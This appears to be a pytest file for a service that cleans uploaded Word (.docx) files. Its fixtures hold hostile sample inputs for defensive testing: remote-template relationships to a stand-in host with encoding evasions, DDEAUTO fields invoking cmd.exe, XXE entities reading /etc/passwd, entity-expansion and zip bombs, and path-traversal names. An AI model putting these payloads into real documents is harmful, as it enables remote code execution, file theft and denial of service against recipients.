"""What a Word file may hold: its words and pictures, nothing that runs and nothing that is fetched."""

import struct

import pytest

from casework.uploads.rules import word
from casework.uploads.rules.files import clean_file
from casework.uploads.rules.refusals import FileRefused
from tests.casework.documents.papers import BODY, WORDS, a_docx

RELATIONS = "word/_rels/settings.xml.rels"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
FETCHES = r"(fetches parts from elsewhere|trae partes de otro sitio)"
DEFINES = r"(definitions of its own|definiciones propias)"
FAR_MORE = r"(far more|mucho más)"


def relation(kind: str = "attachedTemplate", mode: str = 'TargetMode="External"') -> str:
    """A part with one relationship to a machine elsewhere."""
    return (
        f'<Relationships xmlns="{PACKAGE}"><Relationship Id="rId1" Type="{OFFICE}/{kind}" '
        f'Target="http://malo.example/a.dotm" {mode}/></Relationships>'
    )


def prefixed() -> str:
    return (
        f'<p:Relationships xmlns:p="{PACKAGE}"><p:Relationship Id="rId1" '
        f'Type="{OFFICE}/attachedTemplate" Target="http://malo.example/a.dotm" '
        'TargetMode="External"/></p:Relationships>'
    )


@pytest.mark.parametrize(
    "parts",
    [
        {RELATIONS: relation()},
        {RELATIONS: prefixed()},
        {RELATIONS: relation(mode='TargetMode="&#69;xternal"')},
        {RELATIONS: relation(mode='TargetMode="&#x45;xternal"')},
        {RELATIONS: relation(mode='TargetMode="EXTERNAL"')},
        {RELATIONS: relation(mode='targetmode="external"')},
        {RELATIONS: relation(mode=f'xmlns:p="{PACKAGE}" p:TargetMode="External"')},
        {RELATIONS: relation(mode="")},
        {RELATIONS: relation().replace("<Relationship ", "<RELATIONSHIP ")},
        {RELATIONS: relation().replace("Target=", 'Id2=">" Target=')},
        # The words of a link where only the address has them.
        {RELATIONS: relation().replace("a.dotm", "hyperlink")},
        {RELATIONS: relation().replace("Target=", 'Id2="/hyperlink" Target=')},
        # The archive's names are the same to Word in upper and in lower case.
        {"word/_rels/settings.xml.RELS": relation()},
        {"Word/_Rels/Settings.XML.Rels": prefixed()},
        {"word/_rels/settings.xml.r%65ls": relation()},
        {RELATIONS: b"\xef\xbb\xbf" + relation().encode()},
        {"word/oculto.bin": prefixed().encode("utf-16")},
    ],
)
def test_a_word_file_that_fetches_parts_from_elsewhere_is_refused(parts):
    with pytest.raises(FileRefused, match=FETCHES):
        clean_file("a.docx", a_docx(parts))


def run(words: str, tag: str = "instrText") -> str:
    return f'<w:r><w:{tag} xml:space="preserve">{words}</w:{tag}></w:r>'


def mark(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def field(*pieces: str) -> str:
    """A field whose instruction is cut into these pieces, with a result."""
    said = "".join(piece if piece.startswith("<") else run(piece) for piece in pieces)
    return mark("begin") + said + mark("separate") + run("Hola", "t") + mark("end")


def with_fields(fields: str) -> bytes:
    return a_docx({BODY: WORDS.replace("<w:body>", f"<w:body><w:p>{fields}</w:p>")})


FETCHED = ' "http://malo.example/a.png" \\d '


@pytest.mark.parametrize(
    "fields",
    [
        field(f" INCLUDEPICTURE{FETCHED}"),
        field(f"includetext{FETCHED}"),
        field(f' "LINK" Excel.Sheet{FETCHED}'),
        field("DDE", 'AUTO c:\\windows\\cmd.exe "/k calc"'),
        field(" D", "D", "E", "AUTO", " cmd"),
        field(" D", run("DEAUTO cmd", "t")),
        field(" D", run("oculto", "delInstrText"), "DE cmd"),
        field(run("DDEAUTO cmd", "delInstrText"), " PAGE "),
        field(' IF 1 = 1 "', field("DDEAUTO cmd"), '"'),
        # What the inner field says becomes a part of the outer one's first word.
        field(field("QUOTE 68 68 69"), " cmd"),
        field("DD", field("QUOTE 69"), " cmd"),
        # One of two would be read.
        mark("begin")
        + "<mc:AlternateContent xmlns:mc='m'><mc:Choice>"
        + run("PAGE ")
        + "</mc:Choice><mc:Fallback>"
        + run("DDE cmd")
        + "</mc:Fallback></mc:AlternateContent>"
        + mark("end"),
        mark("begin") + run("DDEAUTO cmd"),
        run("DDEAUTO cmd"),
        f"<w:fldSimple w:instr='INCLUDEPICTURE{FETCHED}'/>",
        "<w:fldSimple w:instr='&#68;DE cmd'/>",
    ],
)
@pytest.mark.parametrize("part", [BODY, "word/header1.xml"])
def test_a_word_file_with_a_field_that_fetches_or_runs_is_refused(fields, part):
    content = with_fields(fields)
    if part != BODY:
        content = a_docx({part: WORDS.replace("<w:body>", f"<w:body><w:p>{fields}</w:p>")})
    with pytest.raises(FileRefused, match=FETCHES):
        clean_file("a.docx", content)


@pytest.mark.parametrize(
    "fields",
    [
        field(" PAGE "),
        field("HYPER", 'LINK "https://a.example/link"'),
        field(" TOC \\o ", run("Link", "t")) + run("DDE es una sigla", "t"),
        field("=", field(" NUMPAGES "), " - 1"),
        field(" IF ", field(" MERGEFIELD sexo "), ' = "F" "la" "el"'),
        field(" REF link "),
        "<w:fldSimple w:instr=' DATE '/>",
    ],
)
def test_other_fields_are_kept(fields):
    assert clean_file("a.docx", with_fields(fields)).extent == 3


@pytest.mark.parametrize(
    "encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "cp037", "utf-7"]
)
@pytest.mark.parametrize("name", [RELATIONS, "word/_rels/settings.xml.RELS"])
def test_relations_in_another_encoding_are_refused(encoding, name):
    told = f'<?xml version="1.0" encoding="{encoding}"?>' + relation()
    if encoding == "utf-7":
        # Plain letters to who reads it as anything else.
        told = told.replace("<Rel", "+ADw-Rel")
    with pytest.raises(FileRefused):
        clean_file("a.docx", a_docx({name: told.encode(encoding)}))


@pytest.mark.parametrize(
    "opening",
    [
        '<!DOCTYPE a [<!ENTITY b "c">]>',
        '<!DOCTYPE a SYSTEM "http://malo.example/a.dtd">',
        '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE a [<!ENTITY % b SYSTEM "http://malo.example/a"> %b;]>',
        '<!DOCTYPE a [<!ENTITY l0 "ja">'
        + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
        + "]>",
    ],
)
@pytest.mark.parametrize("name", ["word/styles.xml", "word/styles.XML", "word/estilos.dat"])
def test_a_word_file_with_definitions_of_its_own_is_refused(opening, name):
    with pytest.raises(FileRefused, match=DEFINES):
        clean_file("a.docx", a_docx({name: opening + "<a>hola</a>"}))


@pytest.mark.parametrize(
    "parts",
    [
        {"word/vbaProject.bin": b"macro"},
        {"[Content_Types].xml": '<Types><Override ContentType="x/macroEnabled"/></Types>'},
        {"[Content_Types].xml": '<Types><Override ContentType="x/macro&#69;nabled"/></Types>'},
        {
            "[Content_Types].xml": '<Types><Override ContentType="ms-office.v&#98;aProject"/></Types>'
        },
        {"word/_rels/document.xml.rels": relation("vbaProject", mode="")},
        {"word/_rels/document.xml.rels": relation("oleObject", mode="")},
        {"word/_rels/document.xml.rels": relation("aFChunk", mode="")},
        {"word/_rels/document.xml.rels": relation("subDocument", mode="")},
        {"word/embeddings/oleObject1.bin": b"MZ"},
        {"word/activeX/activeX1.bin": b"MZ"},
        {"programa.exe": b"MZ"},
        {"../../fuera.xml": b"<a/>"},
        {"/etc/passwd": b"a"},
        {BODY: WORDS.encode("utf-16")},
        {"WORD/document.xml": WORDS},
        {"word/styles.xml": "<a><b></a>"},
        {"word/styles.xml": "<a>&nada;</a>"},
        {"word/styles.xml": ""},
    ],
)
def test_a_word_file_with_macros_or_programs_and_a_broken_one_are_refused(parts):
    with pytest.raises(FileRefused):
        clean_file("a.docx", a_docx(parts))


@pytest.mark.parametrize(
    "office", [OFFICE, "http://purl.oclc.org/ooxml/officeDocument/relationships"]
)
def test_a_word_file_may_hold_links_pictures_and_parts_of_its_own(office):
    inside = (
        f'<Relationship Id="r1" Type="{office}/hyperlink" Target="https://a.example/b?c=1&amp;d=2" '
        f'TargetMode="External"/><Relationship Id="r2" Type="{office}/image" '
        f'Target="media/a.svg"/><Relationship Id="r3" Type="{office}/styles" '
        'Target="/word/styles.xml" TargetMode="Internal"/>'
    )
    parts = {
        "word/_rels/document.xml.rels": f'<Relationships xmlns="{PACKAGE}">{inside}</Relationships>',
        "word/styles.xml": "<a/>",
        "word/media/a.svg": '<svg xmlns="http://www.w3.org/2000/svg"/>',
        "word/media/b.emf": b"\x00\x01<",
    }
    assert clean_file("a.docx", a_docx(parts)).extent == 2


@pytest.mark.parametrize("claimed", [None, 10])
def test_a_zip_bomb_is_refused_also_when_it_lies_about_its_length(claimed):
    bomb = bytearray(a_docx({"word/media/bomba.xml": bytes(130 * 1024 * 1024)}))
    if claimed:
        # The directory's entry of the part says that it is short.
        real = struct.pack("<I", 130 * 1024 * 1024)
        while (at := bytes(bomb).find(real)) >= 0:
            bomb[at : at + 4] = struct.pack("<I", claimed)
    with pytest.raises(FileRefused):
        clean_file("a.docx", bytes(bomb))


def test_a_word_file_of_endless_marks_is_refused(monkeypatch):
    monkeypatch.setattr(word, "MOST_ELEMENTS", 1000)
    with pytest.raises(FileRefused, match=FAR_MORE):
        clean_file("a.docx", a_docx({"word/styles.xml": f"<a>{'<b/>' * 1000}</a>"}))
    # However deep they stand in one another.
    with pytest.raises(FileRefused, match=FAR_MORE):
        clean_file("a.docx", a_docx({"word/styles.xml": "<b>" * 1000 + "</b>" * 1000}))
